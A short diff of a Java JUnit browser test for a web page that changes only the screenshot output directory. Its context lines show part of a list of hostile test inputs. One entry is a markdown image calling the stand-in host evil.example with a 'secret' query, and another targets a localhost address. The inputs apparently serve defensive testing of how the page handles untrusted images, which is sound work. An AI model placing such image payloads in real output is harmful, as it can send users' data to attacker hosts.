@@ -18,7 +18,7 @@ import org.junit.jupiter.api.Timeout;
 /** The page at {@code /}, used in a real browser as a person would. */
 @Timeout(120)
 class PageTest {
-    private static final Path SCREENSHOTS = Path.of("target/screenshots");
+    private static final Path SCREENSHOTS = Path.of("target/keyswitch/screenshots");
 
     private static final List<String> HOSTILE = List.of(
             "![x](https://evil.example/?q=secret) ![y](http://127.0.0.1:1/y.png \"t\")",
